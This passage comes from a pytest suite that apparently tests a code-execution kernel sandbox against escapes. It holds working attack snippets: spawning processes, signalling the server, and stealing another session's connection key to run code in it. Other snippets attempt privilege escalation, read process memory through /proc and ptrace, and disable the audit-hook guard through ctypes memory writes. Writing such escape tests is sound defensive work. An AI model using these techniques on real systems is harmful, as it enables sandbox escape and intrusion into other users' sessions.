            w.write(b'pwned'); await w.drain()
        loop = asyncio.new_event_loop()
        try:
            loop.run_until_complete(go())
        finally:
            loop.close()
    """,
    "ctypes-libc-connect": """
        ct = M('ctypes'); c = libc(); struct = M('struct'); socket = M('socket')
        fd = check(c.socket(2, 1, 0), 'socket')
        addr = struct.pack('!HH4s8x', 2, P['tcp'], socket.inet_aton('127.0.0.1'))
        addr = struct.pack('=H', 2) + addr[2:]
        check(c.connect(fd, addr, 16), 'connect')
        c.write(fd, b'pwned', 5)
        out = 'connected'
    """,
    "zmq-tcp-push": ("""
        # main interpreter (pyzmq is not sub-interpreter safe)
        zmq = M('zmq')
        ctx = zmq.Context()
        s = ctx.socket(zmq.PUSH)
        s.setsockopt(zmq.LINGER, 0)
        s.connect('tcp://127.0.0.1:%d' % P['tcp'])
        try:
            s.send(b'pwned', zmq.NOBLOCK)
        except zmq.Again:
            pass
        M('time').sleep(0.2)  # a loopback connect takes microseconds
        s.close(); ctx.term()
    """, {}),  # libzmq raises no audit events: the guard never sees it, only the OS does
    "zmq-ipc-host-socket": ("""
        # main interpreter (pyzmq is not sub-interpreter safe)
        zmq = M('zmq')
        ctx = zmq.Context()
        s = ctx.socket(zmq.PUSH)
        s.setsockopt(zmq.LINGER, 0)
        s.connect('ipc://' + P['unix'])
        try:
            s.send(b'pwned', zmq.NOBLOCK)
        except zmq.Again:
            pass
        M('time').sleep(0.2)
        s.close(); ctx.term()
    """, {}),
    "zmq-tcp-bind-listen": ("""
        # main interpreter (pyzmq is not sub-interpreter safe)
        zmq = M('zmq')
        ctx = zmq.Context()
        s = ctx.socket(zmq.PULL)
        s.setsockopt(zmq.LINGER, 0)
        port = s.bind_to_random_port('tcp://127.0.0.1')
        M('sys')._kxrt_keep_zmq = (ctx, s)
        out = ('LISTENING', port)
    """, {"modes": ["guard"]}),  # libzmq aborts the kernel here (its own DoS); the os mode runs the same code
    "tcp-bind-listen": """
        socket = M('socket')
        s = socket.socket(2, 1)
        s.bind(('127.0.0.1', 0))
        s.listen()
        M('sys')._kxrt_keep = s
        out = ('LISTENING', s.getsockname()[1])
    """,
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(NETWORK))
async def test_network(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    for a in await run_case(world, targets, "network", profile, name, code, modes):
        for iface in world.host_interfaces:
            assert iface not in a.result, f"the host's interface {iface!r} is visible: {a.result}"
        listening = re.search(r"'LISTENING', (\d+)", a.result)
        if listening:  # a port the kernel bound must not be reachable from the host
            with socket.socket() as probe:
                probe.settimeout(1)
                assert probe.connect_ex(("127.0.0.1", int(listening.group(1)))) != 0, f"kernel listens on the host: {a.result}"


# =================================================================================================
# 4. Signals to the server (= this test process in the in-memory harness)
# =================================================================================================
SIGNALS: dict[str, Any] = {
    "kill-SIGUSR1": "M('os').kill(P['pid'], M('signal').SIGUSR1)",
    "kill-0-probe": "M('os').kill(P['pid'], 0); raise AssertionError('ESCAPE: the server pid is visible')",
    "killpg-server-group": "M('os').killpg(P['pgid'], M('signal').SIGUSR2)",
    "killpg-own-group": "M('os').killpg(0, M('signal').SIGWINCH)",
    "kill-minus-1": "M('os').kill(-1, M('signal').SIGWINCH)",
    "pidfd_send_signal": "os = M('os'); M('signal').pidfd_send_signal(os.pidfd_open(P['pid']), M('signal').SIGUSR1)",
    "ctypes-kill": "check(libc().kill(P['pid'], 10), 'kill')",
    "ctypes-tgkill": "check(libc().syscall(234, P['pid'], P['pid'], 10), 'tgkill')",
    "ctypes-rt_sigqueueinfo": """
        ct = M('ctypes')
        info = (ct.c_int * 32)(10, 0, -1)
        check(libc().syscall(129, P['pid'], 10, info), 'rt_sigqueueinfo')
    """,
    "fcntl-F_SETOWN-sigio": """
        fcntl = M('fcntl'); socket = M('socket'); os = M('os')
        a, b = socket.socketpair()
        fcntl.fcntl(a, 10, 10)                  # F_SETSIG SIGUSR1
        fcntl.fcntl(a, fcntl.F_SETOWN, P['pid'])
        fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)
        b.send(b'x')
    """,
    "kill-pid-1-in-namespace": "M('os').kill(1, M('signal').SIGWINCH)",
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(SIGNALS))
async def test_signals(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    await run_case(world, targets, "signals", profile, name, code, modes)


# =================================================================================================
# 5. Starting processes, by every route (the marker is written in the attacker's own session dir,
#    where any process it started could write: so it exists iff a process ran)
# =================================================================================================
SUBPROCESS: dict[str, Any] = {
    "subprocess.run": "M('subprocess').run(['/bin/sh', '-c', P['shcmd']], timeout=5)",
    "subprocess.Popen-shell": "M('subprocess').Popen(P['shcmd'], shell=True).wait(5)",
    "subprocess.check_output-python": "M('subprocess').check_output([M('sys').executable, '-c', 'open(%r, \"w\")' % P['marker']])",
    "os.system": "M('os').system(P['shcmd'])",
    "os.popen": "M('os').popen(P['shcmd']).read()",
    "os.fork": """
        # main interpreter (CPython refuses fork in sub-interpreters)
        os = M('os')
        pid = os.fork()
        if pid == 0:
            open(P['marker'], 'w').write('forked'); os._exit(0)
        os.waitpid(pid, 0)
    """,
    "os.forkpty": """
        # main interpreter (CPython refuses fork in sub-interpreters)
        os = M('os')
        pid, fd = os.forkpty()
        if pid == 0:
            open(P['marker'], 'w').write('forked'); os._exit(0)
        os.waitpid(pid, 0)
    """,
    "os.posix_spawn": "os = M('os'); os.waitpid(os.posix_spawn('/bin/sh', ['sh', '-c', P['shcmd']], {}), 0)",
    "os.posix_spawnp": "os = M('os'); os.waitpid(os.posix_spawnp('sh', ['sh', '-c', P['shcmd']], {'PATH': '/bin:/usr/bin'}), 0)",
    "os.spawnv": "os = M('os'); os.spawnv(os.P_WAIT, '/bin/sh', ['sh', '-c', P['shcmd']])",
    "os.execv-sh": "M('os').execv('/bin/sh', ['sh', '-c', P['shcmd']])",
    "os.execve-python": "os = M('os'); sys = M('sys'); os.execve(sys.executable, [sys.executable, '-c', 'open(%r, \"w\")' % P['marker']], {})",
    "subprocess._fork_exec": """
        os = M('os')
        r, w = os.pipe()
        fe = M('subprocess')._fork_exec
        fe([b'/bin/sh', b'-c', P['shcmd'].encode()], [b'/bin/sh'], True, (w,), None, None,
           -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
        M('time').sleep(0.5)
    """,
    "_posixsubprocess.fork_exec": """
        os = M('os')
        r, w = os.pipe()
        fe = M('_posixsubprocess').fork_exec
        fe([b'/bin/sh', b'-c', P['shcmd'].encode()], [b'/bin/sh'], True, (w,), None, None,
           -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, True)
        M('time').sleep(0.5)
    """,
    "pty.spawn": "# main interpreter\nM('pty').spawn(['/bin/sh', '-c', P['shcmd']])",
    "pty.fork": """
        # main interpreter (CPython refuses fork in sub-interpreters)
        pid, fd = M('pty').fork()
        if pid == 0:
            open(P['marker'], 'w').write('forked'); M('os')._exit(0)
        M('os').waitpid(pid, 0)
    """,
    "multiprocessing-fork": """
        # main interpreter (CPython refuses fork in sub-interpreters)
        mp = M('multiprocessing')
        p = mp.get_context('fork').Process(target=M('os').system, args=(P['shcmd'],))
        p.start(); p.join(5)
    """,
    "multiprocessing-spawn": """
        mp = M('multiprocessing')
        p = mp.get_context('spawn').Process(target=M('os').system, args=(P['shcmd'],))
        p.start(); p.join(10)
    """,
    "concurrent-ProcessPool": """
        cf = M('concurrent.futures')
        with cf.ProcessPoolExecutor(1) as ex:
            ex.submit(M('os').system, P['shcmd']).result(10)
    """,
    "ctypes-libc-system": "out = libc().system(P['shcmd'].encode())",
    "ctypes-libc-fork": """
        c = libc(); os = M('os')
        pid = check(c.fork(), 'fork')
        if pid == 0:
            open(P['marker'], 'w').write('forked'); os._exit(0)
        os.waitpid(pid, 0)
    """,
    "ctypes-raw-clone-SIGCHLD": """
        c = libc(); os = M('os')
        pid = check(c.syscall(56, 17, 0, 0, 0, 0), 'clone')
        if pid == 0:
            open(P['marker'], 'w').write('cloned'); os._exit(0)
        os.waitpid(pid, 0)
    """,
    "ctypes-vfork-exec": """
        c = libc()
        check(c.syscall(58), 'vfork')
    """,
    "ctypes-clone3": """
        ct = M('ctypes')
        args = (ct.c_uint64 * 11)(0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
        check(libc().syscall(435, args, 88), 'clone3')
    """,
    "thread-then-execve": """
        threading = M('threading'); os = M('os')
        t = threading.Thread(target=os.execv, args=('/bin/sh', ['sh', '-c', P['shcmd']]))
        t.start(); t.join(5)
    """,
    "pickle-reduce-os.system": """
        pickle = M('pickle'); os = M('os')
        class Evil:
            def __reduce__(self):
                return (os.system, (P['shcmd'],))
        pickle.loads(pickle.dumps(Evil()))
    """,
    "pickle-crafted-GLOBAL": "M('pickle').loads(b'cposix\\nsystem\\n(V' + P['shcmd'].encode() + b'\\ntR.')",
    "subclasses-wrap_close-globals-system": """
        wc = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
        wc.__init__.__globals__['system'](P['shcmd'])
    """,
    "io.open_code-exec-of-script": """
        open(P['session_dir'] + '/work/s.sh', 'w').write('#!/bin/sh\\n' + P['shcmd'] + '\\n')
        M('os').chmod(P['session_dir'] + '/work/s.sh', 0o755)
        M('os').execv(P['session_dir'] + '/work/s.sh', ['s.sh'])
    """,
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(SUBPROCESS))
async def test_processes(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    await run_case(world, targets, "processes", profile, name, code, modes)


# =================================================================================================
# 6. Another session (B): its files by path, its kernel's sockets (raw and zmq), its process
# =================================================================================================
_ZMQ_SIGNED = """
    # main interpreter (pyzmq is not sub-interpreter safe)
    zmq = M('zmq'); json = M('json'); hmac = M('hmac'); hashlib = M('hashlib'); uuid = M('uuid')
    try:
        key = json.loads(open(P['b_dir'] + '/kernel.json').read())['key'].encode()
    except Exception as e:
        key = b''  # could not steal the key: try an unsigned message
    def message(kind, content):
        header = json.dumps({'msg_id': uuid.uuid4().hex, 'session': uuid.uuid4().hex, 'username': 'x',
                             'msg_type': kind, 'version': '5.3', 'date': '2026-01-01T00:00:00Z'}).encode()
        frames = [header, b'{}', b'{}', json.dumps(content).encode()]
        sig = hmac.new(key, b''.join(frames), hashlib.sha256).hexdigest().encode() if key else b''
        return [b'<IDS|MSG>', sig] + frames
    ctx = zmq.Context()
    s = ctx.socket(zmq.DEALER)
    s.setsockopt(zmq.LINGER, 0)
    s.connect('ipc://' + P['b_sockets'][CHANNEL])
    s.send_multipart(message(KIND, CONTENT))
    got = []
    if s.poll(300):
        got = s.recv_multipart()
    s.close(); ctx.term()
    if got:
        raise AssertionError('ESCAPE: session B answered: %r' % got[:3])
"""
CROSS_SESSION: dict[str, Any] = {
    "open-b-file": "out = open(P['b_file']).read()",
    "listdir-b-dir": "out = M('os').listdir(P['b_dir'])",
    "read-b-connection-file": "out = open(P['b_dir'] + '/kernel.json').read()",
    "read-b-journal": "out = open(P['b_dir'] + '/journal.jsonl').read()",
    "write-into-b-dir": "open(P['b_marker'], 'w').write('pwned')",
    "plant-b-ipython-startup": """
        os = M('os')
        d = P['b_dir'] + '/home/.ipython/profile_default/startup'
        os.makedirs(d, exist_ok=True)
        open(d + '/00-pwn.py', 'w').write('open(%r, "w")' % P['b_marker'])
    """,
    "b-file-via-proc-pid-root": "out = open(f\"/proc/{P['b_pid']}/root\" + P['b_file']).read()",
    "b-environ-via-proc": "out = open(f\"/proc/{P['b_pid']}/environ\", 'rb').read()",
    "raw-unix-connect-b-sockets": """
        socket = M('socket')
        greeting = b'\\xff' + b'\\0' * 8 + b'\\x7f\\x03\\x01NULL' + b'\\0' * 16 + b'\\0' + b'\\0' * 31
        reached, out = {}, {}
        for name, path in P['b_sockets'].items():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(1)
            try:
                s.connect(path)
                s.sendall(greeting)
                reached[name] = s.recv(64)
            except OSError as e:
                out[name] = repr(e)
            finally:
                s.close()
        if reached:
            raise AssertionError('ESCAPE: CONNECTED to session B: %r' % reached)
    """,
    "raw-unix-connect-b-via-symlink": """
        os = M('os'); socket = M('socket')
        link = P['session_dir'] + '/work/bsk-' + str(id(P))
        os.symlink(P['b_sockets']['shell'], link)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(1)
        try:
            s.connect(link)
            raise AssertionError('ESCAPE: CONNECTED to session B through a symlink')
        finally:
            os.unlink(link)
    """,
    "zmq-hb-echo": """
        # main interpreter (pyzmq is not sub-interpreter safe)
        zmq = M('zmq')
        ctx = zmq.Context(); s = ctx.socket(zmq.REQ); s.setsockopt(zmq.LINGER, 0)
        s.connect('ipc://' + P['b_sockets']['hb'])
        s.send(b'ping-from-A')
        echoed = s.recv() if s.poll(300) else None
        s.close(); ctx.term()
        if echoed:
            raise AssertionError('ESCAPE: B heartbeat ECHO %r' % echoed)
    """,
    "zmq-shell-execute-in-b": _ZMQ_SIGNED.replace("CHANNEL", "'shell'").replace("KIND", "'execute_request'").replace(
        "CONTENT", "{'code': 'bsecret = \"PWNED\"\\nopen(%r, \"w\")' % P['b_marker'], 'silent': False}"),
    "zmq-control-shutdown-b": _ZMQ_SIGNED.replace("CHANNEL", "'control'").replace("KIND", "'shutdown_request'").replace(
        "CONTENT", "{'restart': False}"),
    "kill-b-kernel": "M('os').kill(P['b_pid'], 9)",
    "pidfd-b-kernel-getfd": "os = M('os'); fd = os.pidfd_open(P['b_pid']); out = check(libc().syscall(438, fd, 3, 0), 'pidfd_getfd')",
    "ptrace-b-kernel": "check(libc().syscall(101, 0x4206, P['b_pid'], 0, 0), 'ptrace SEIZE')",
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(CROSS_SESSION))
async def test_other_session(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    t = targets[profile]
    attacks = await run_case(world, targets, "other-session", profile, name, code, modes)
    results = [a.result for a in attacks]
    planted = t.dirs["b"] / "home/.ipython/profile_default/startup/00-pwn.py"
    assert not planted.exists(), f"{results}: a startup file was planted in session B"
    r = await t.h.run("bsecret", session=t.handles["b"])
    assert r["result"] == t.b_var_secret, f"{results}: session B's variable changed: {r}"


async def test_other_session_iopub_cannot_be_sniffed(world: World, targets: dict[str, Target]) -> None:
    """A subscribes to B's IOPub socket while B prints its secret (libzmq: no audit events; os-level only)."""
    sniff = """
        # main interpreter (pyzmq is not sub-interpreter safe)
        zmq = M('zmq'); time = M('time')
        ctx = zmq.Context(); s = ctx.socket(zmq.SUB); s.setsockopt(zmq.LINGER, 0)
        s.setsockopt(zmq.SUBSCRIBE, b'')
        s.connect('ipc://' + P['b_sockets']['iopub'])
        got = []
        deadline = time.time() + 2
        while time.time() < deadline:
            if s.poll(100):
                got.append(s.recv_multipart())
        s.close(); ctx.term()
        out = got
    """
    spies: dict[tuple[str, str], Attack] = {}

    async def spy(t: Target, mode: str) -> None:
        spies[t.profile, mode] = await attack(world, t, mode, sniff, f"iopub-{t.profile}-{mode}", category="other-session",
                                              name="zmq-sub-b-iopub", extra={"_main": True})

    async def victim(t: Target) -> None:
        await anyio.sleep(0.6)  # the spies have subscribed by now
        r = await t.h.run("import time\nfor _ in range(6):\n    print(bsecret)\n    time.sleep(0.15)", session=t.handles["b"])
        assert t.b_var_secret in r["stdout"]  # B really printed it

    async with anyio.create_task_group() as tg:  # every spy and both victims at once
        for profile in PROFILES:
            tg.start_soon(victim, targets[profile])
            for mode in MODES:
                tg.start_soon(spy, targets[profile], mode)
    for (profile, _mode), a in spies.items():
        await assert_untouched(world, targets[profile], a)


# =================================================================================================
# 7. Raising limits, regaining privileges, leaving the cgroup / namespaces
# =================================================================================================
LIMITS: dict[str, Any] = {
    "setrlimit-nofile-up": "r = M('resource'); s, h = r.getrlimit(r.RLIMIT_NOFILE); r.setrlimit(r.RLIMIT_NOFILE, (h * 4, h * 4))",
    "setrlimit-data-unlimited": "r = M('resource'); r.setrlimit(r.RLIMIT_DATA, (r.RLIM_INFINITY, r.RLIM_INFINITY))",
    "setrlimit-fsize-unlimited": "r = M('resource'); r.setrlimit(r.RLIMIT_FSIZE, (r.RLIM_INFINITY, r.RLIM_INFINITY))",
    "prlimit-self": "r = M('resource'); r.prlimit(0, r.RLIMIT_NOFILE, (1 << 20, 1 << 20))",
    "prlimit-server": "r = M('resource'); r.prlimit(P['pid'], r.RLIMIT_CORE, (12345, 12345))",
    "ctypes-prlimit64": """
        ct = M('ctypes')
        new = (ct.c_uint64 * 2)(1 << 20, 1 << 20)
        check(libc().syscall(302, 0, 7, new, None), 'prlimit64')
    """,
    "ctypes-setrlimit": """
        ct = M('ctypes')
        check(libc().setrlimit(2, (ct.c_uint64 * 2)(-1, -1)), 'setrlimit DATA')
    """,
    "os.setresuid": "M('os').setresuid(0, 0, 0)",
    "os.setgroups": "M('os').setgroups([0, 1, 2, 3, 4, 6, 10])",
    "os.setgid": "M('os').setgid(0)",
    "capset-all": """
        ct = M('ctypes')
        header = (ct.c_uint32 * 2)(0x20080522, 0)
        data = (ct.c_uint32 * 6)(0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff)
        check(libc().capset(header, data), 'capset')
    """,
    "prctl-ambient-raise-sys_admin": "check(libc().prctl(47, 2, 21, 0, 0), 'PR_CAP_AMBIENT_RAISE')",
    "prctl-clear-no_new_privs": "check(libc().prctl(38, 0, 0, 0, 0), 'PR_SET_NO_NEW_PRIVS 0')",
    "unshare-user-ns": "check(libc().unshare(0x10000000), 'unshare CLONE_NEWUSER')",
    "unshare-mount-ns": "check(libc().unshare(0x00020000), 'unshare CLONE_NEWNS')",
    "setns-pid1-net": """
        fd = M('os').open('/proc/1/ns/net', 0)
        check(libc().setns(fd, 0), 'setns')
    """,
    "nice-minus-20": "os = M('os'); os.setpriority(os.PRIO_PROCESS, 0, -20)",
    "cgroup-move-to-root": "open('/sys/fs/cgroup/pids/cgroup.procs', 'w').write(str(M('os').getpid()))",
    "cgroup-raise-own-limits": """
        handle = P['session_dir'].rstrip('/').rsplit('/', 1)[1]
        open('/sys/fs/cgroup/memory/kernelexec/' + handle + '/memory.limit_in_bytes', 'w').write('-1')
        open('/sys/fs/cgroup/pids/kernelexec/' + handle + '/pids.max', 'w').write('max')
    """,
    "iopl-3": "check(libc().syscall(172, 3), 'iopl')",
    "bpf-map-create": """
        ct = M('ctypes')
        attr = (ct.c_uint32 * 30)(2, 4, 4, 16)
        check(libc().syscall(321, 0, attr, 120), 'bpf')
    """,
    "io_uring_setup": """
        ct = M('ctypes')
        params = (ct.c_uint8 * 120)()
        check(libc().syscall(425, 8, params), 'io_uring_setup')
    """,
    "userfaultfd": "check(libc().syscall(323, 0), 'userfaultfd')",
    "perf_event_open": """
        ct = M('ctypes')
        attr = (ct.c_uint8 * 128)()
        check(libc().syscall(298, attr, 0, -1, -1, 0), 'perf_event_open')
    """,
    "keyctl-join-session": "check(libc().syscall(250, 1, None), 'keyctl JOIN_SESSION_KEYRING')",
    "personality-read-implies-exec": "check(libc().personality(0x0400000), 'personality')",
}


def _cgroup_values(t: Target, mode: str) -> dict[str, str]:
    handle = t.handles[mode]
    values = {}
    for f in (f"/sys/fs/cgroup/memory/kernelexec/{handle}/memory.limit_in_bytes", f"/sys/fs/cgroup/pids/kernelexec/{handle}/pids.max"):
        try:
            values[f] = Path(f).read_text()
        except OSError:
            pass
    return values


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(LIMITS))
async def test_limits_and_privileges(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    t = targets[profile]
    pids = {mode: kernel_pids(t.dirs[mode]) for mode in modes}
    before = {mode: process_state(p[0]) for mode, p in pids.items() if p}
    server_limits = Path("/proc/self/limits").read_text()
    cgroups = {mode: _cgroup_values(t, mode) for mode in modes}
    attacks = await run_case(world, targets, "limits", profile, name, code, modes)
    results = [a.result for a in attacks]
    assert Path("/proc/self/limits").read_text() == server_limits, f"{results}: the server's limits changed"
    for mode in modes:
        assert _cgroup_values(t, mode) == cgroups[mode], f"{results}: the {mode} session's cgroup limits changed"
        if mode in before and kernel_pids(t.dirs[mode]) == pids[mode]:
            after = process_state(pids[mode][0])
            assert after == before[mode], f"{results}: the {mode} kernel changed its own limits/privileges/namespaces: {before[mode]} -> {after}"
            assert all(int(x, 16) == 0 for k in ("CapPrm", "CapEff", "CapAmb") for x in after["status"][k]), after
            assert after["status"]["NoNewPrivs"] == ["1"] and after["status"]["Seccomp"] == ["2"]


@pytest.mark.parametrize("profile", PROFILES)
async def test_kernel_process_holds_no_capabilities_not_even_in_its_bounding_set(targets: dict[str, Target], profile: str) -> None:
    """sandbox_exec.drop_capabilities promises an empty bounding set; no-new-privs is what stops a root
    execve from regaining the bounding set today, so this is defence in depth, measured from the host."""
    t = targets[profile]
    for role in ("guard", "os", "b"):
        for pid in kernel_pids(t.dirs[role]):
            status = process_state(pid)["status"]
            assert status["NoNewPrivs"] == ["1"] and status["Seccomp"] == ["2"], status
            caps = {k: status[k][0] for k in ("CapInh", "CapPrm", "CapEff", "CapAmb", "CapBnd")}
            assert all(int(v, 16) == 0 for v in caps.values()), f"kernel pid {pid} of session {role}: {caps}"


# =================================================================================================
# 8. Other processes: ptrace, process_vm_readv, /proc/<pid>/mem of the server, what /proc shows
# =================================================================================================
OTHER_PROCESSES: dict[str, Any] = {
    "ptrace-attach-server": "check(libc().syscall(101, 16, P['pid'], 0, 0), 'PTRACE_ATTACH')",
    "ptrace-attach-pid-1": "check(libc().syscall(101, 16, 1, 0, 0), 'PTRACE_ATTACH 1')",
    "process_vm_readv-server-memory": """
        ct = M('ctypes')
        buf = ct.create_string_buffer(P['mem_len'])
        local = (ct.c_void_p * 2)(ct.addressof(buf), P['mem_len'])
        remote = (ct.c_void_p * 2)(P['mem_addr'], P['mem_len'])
        check(libc().syscall(310, P['pid'], local, 1, remote, 1, 0), 'process_vm_readv')
        out = buf.raw
    """,
    "proc-pid-mem-server": """
        with open(f"/proc/{P['pid']}/mem", 'rb') as f:
            f.seek(P['mem_addr'])
            out = f.read(P['mem_len'])
    """,
    "proc-pid-1-mem": "out = open('/proc/1/mem', 'rb').read(1)",
    "proc-listing": """
        os = M('os')
        seen = {}
        for d in os.listdir('/proc'):
            if d.isdigit():
                try:
                    seen[d] = open('/proc/%s/cmdline' % d, 'rb').read()[:200]
                except OSError as e:
                    seen[d] = repr(e)
        out = seen
    """,
    "proc-listing-scandir-cwd-links": """
        os = M('os')
        out = {d: os.readlink('/proc/%s/cwd' % d) for d in os.listdir('/proc') if d.isdigit()}
    """,
    "pidfd_open-server": "os = M('os'); out = os.pidfd_open(P['pid'])",
    "kcmp-server": "check(libc().syscall(312, P['pid'], M('os').getpid(), 0, 0, 0), 'kcmp')",
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(OTHER_PROCESSES))
async def test_other_processes(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    t = targets[profile]
    for a in await run_case(world, targets, "other-processes", profile, name, code, modes):
        assert "pytest" not in a.result, f"the server process is visible: {a.result}"
        assert t.handles["b"] not in a.result, f"session B's kernel is visible: {a.result}"


# =================================================================================================
# 9. The in-kernel guard's own bypasses (guard mode only), each followed by the same real attempts:
#    what the OS layers still stop once the guard is out of the way
# =================================================================================================
_AFTER_BYPASS = """

def _attempts():
    res = {}
    def fork():
        os = M('os')
        pid = os.fork()
        if pid == 0:
            open(P['marker'], 'w'); os._exit(0)
        os.waitpid(pid, 0)
    def system():
        wc = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
        return wc.__init__.__globals__['system'](P['shcmd'])
    for what, fn in [
        ('write-outside', lambda: open(P['new'], 'w').write('pwned')),
        ('modify-readonly', lambda: open(P['ro_canary'], 'a').write('pwned')),
        ('read-secret', lambda: open(P['secret']).read()),
        ('posix_spawn', lambda: M('os').posix_spawn('/bin/sh', ['sh', '-c', P['shcmd']], {})),
        ('fork', fork),
        ('os.system', system),
        ('tcp-connect', lambda: M('socket').create_connection(('127.0.0.1', P['tcp']), timeout=2).send(b'pwned')),
        ('udp-send', lambda: M('socket').socket(2, 2).sendto(b'pwned', ('127.0.0.1', P['udp']))),
        ('unix-connect-host', lambda: M('socket').socket(1, 1).connect(P['unix'])),
        ('kill-server', lambda: M('os').kill(P['pid'], 10)),
    ]:
        try:
            res[what] = 'SUCCEEDED: %r' % (fn(),)
        except BaseException as e:
            res[what] = '%s: %s' % (type(e).__name__, e)
    return res
"""
GUARD_BYPASSES: dict[str, Any] = {
    "guard-module-globals": ("""
        g = M('sys').modules['_kernelexec_guard']
        for k in ('_TAMPER_EVENTS', '_PROCESS_EVENTS', '_NETWORK_EVENTS', '_READ_EVENTS', '_WRITE_EVENTS', '_TWO_PATH_EVENTS'):
            setattr(g, k, frozenset())
        g._norm = lambda p: None
        out = _attempts()
    """, {"dirty": True}),
    "closure-cell_contents-from-traceback": ("""
        try:
            open(P['new'], 'w')
        except BaseException as e:
            tb = e.__traceback__
        while tb is not None and tb.tb_frame.f_code.co_name != 'audit':
            tb = tb.tb_next
        check_path = tb.tb_frame.f_locals['check_path']
        cells = dict(zip(check_path.__code__.co_freevars, check_path.__closure__))
        cells['file_io'].cell_contents = 'all'  # no audit event for a cell write
        out = _attempts()
    """, {"dirty": True}),
    "ctypes-memmove-audit-closure": ("""
        ct = M('ctypes')
        try:
            open(P['new'], 'w')
        except BaseException as e:
            tb = e.__traceback__
        while tb is not None and tb.tb_frame.f_code.co_name != 'audit':
            tb = tb.tb_next
        def rd(addr):
            b = bytes(8); ct.memmove(id(b) + 32, addr, 8); return int.from_bytes(b, 'little')
        def wr(addr, obj):
            b = id(obj).to_bytes(8, 'little'); ct.memmove(addr, id(b) + 32, 8)
        hook = ct.cast(rd(rd(id(tb.tb_frame) + 24)), ct.py_object).value
        cells = dict(zip(hook.__code__.co_freevars, hook.__closure__))
        for name in ('deny_process', 'deny_network', 'deny_tamper'):
            wr(id(cells[name]) + 16, False)
        inner = cells['check_path'].cell_contents
        wr(id(dict(zip(inner.__code__.co_freevars, inner.__closure__))['file_io']) + 16, 'all')
        out = _attempts()
        c = libc()  # ctypes is now usable too: straight to libc
        out['libc-creat'] = c.creat(P['var_new'].encode(), 0o644), ct.get_errno()
        out['libc-fork'] = c.fork(), ct.get_errno()
        if out['libc-fork'][0] == 0:
            M('os')._exit(0)
    """, {"dirty": True}),
    "runtime-bypass-context": """
        runtime = M('builtins')._kernelexec_report.__self__
        with runtime.bypass():
            out = _attempts()
    """,
    "rebind-builtins-__import__": """
        bi = M('builtins')
        real = [c.cell_contents for c in bi.__import__.__closure__ if getattr(c.cell_contents, '__name__', '') == '__import__'][0]
        bi.__import__ = real
        import subprocess
        out = _attempts()
        out['subprocess.run'] = repr(subprocess.run(['/bin/sh', '-c', P['shcmd']]))
    """,
    "reset-f": """
        M('IPython').get_ipython().run_line_magic('reset', '-f')
        out = _attempts()
    """,
    "gc.get_objects": """
        try:
            found = [o for o in M('gc').get_objects() if getattr(o, '__name__', '') == 'audit']
        except BaseException as e:
            found = repr(e)
        out = {'gc': found, **_attempts()}
    """,
    "code-crafting-CodeType-and-replace": """
        c = compile('x = 1', '<kxrt>', 'exec')
        res = {}
        try:
            res['replace'] = repr(c.replace(co_consts=(2, None)))
        except BaseException as e:
            res['replace'] = repr(e)
        try:
            res['CodeType'] = repr(M('types').CodeType(*[getattr(c, a) for a in (
                'co_argcount', 'co_posonlyargcount', 'co_kwonlyargcount', 'co_nlocals', 'co_stacksize', 'co_flags',
                'co_code', 'co_consts', 'co_names', 'co_varnames', 'co_filename', 'co_name', 'co_qualname',
                'co_firstlineno', 'co_linetable', 'co_exceptiontable')]))
        except BaseException as e:
            res['CodeType'] = repr(e)
        out = {**res, **_attempts()}
    """,
    "marshal-crafted-code": """
        marshal = M('marshal')
        src = compile("import os as _o\\n_o.system(P['shcmd'])\\nopen(P['new'], 'w')", '<kxrt>', 'exec')
        crafted = marshal.loads(marshal.dumps(src).replace(b'<kxrt>', b'<xxxx>'))
        try:
            exec(crafted, {'P': P})
            res = 'ran'
        except BaseException as e:
            res = repr(e)
        out = {'marshal': res, **_attempts()}
    """,
    "sub-interpreter-direct": """
        si = M('_xxsubinterpreters')
        try:
            res = si.run_string(si.create(isolated=False), "open(%r, 'w')" % P['new'])
        except BaseException as e:
            res = repr(e)
        out = {'subinterpreter': res, **_attempts()}
    """,
    "from-a-thread": """
        th = M('threading'); box = {}
        t = th.Thread(target=lambda: box.update(_attempts()))
        t.start(); t.join(10)
        out = box
    """,
    "atexit-and-del-callbacks": """
        class Later:
            def __del__(self):
                try:
                    open(P['new'], 'w')
                except BaseException:
                    pass
        Later()
        M('weakref').finalize(Later(), lambda: M('os').system(P['shcmd']))
        out = _attempts()
    """,
}


def _bypass_cases() -> list[Any]:
    out = []
    for name, spec in GUARD_BYPASSES.items():
        code, opts = (spec, {}) if isinstance(spec, str) else spec
        for profile in PROFILES:
            out.append(pytest.param(profile, name, code, bool(opts.get("dirty")), id=f"{profile}-guard-{name}"))
    return out


@pytest.mark.parametrize(("profile", "name", "code", "dirty"), _bypass_cases())
async def test_guard_bypass_then_os_layers(world: World, targets: dict[str, Target], profile: str, name: str, code: str,
                                           dirty: bool) -> None:
    t = targets[profile]
    tag = f"{name}-{profile}-{secrets.token_hex(3)}"
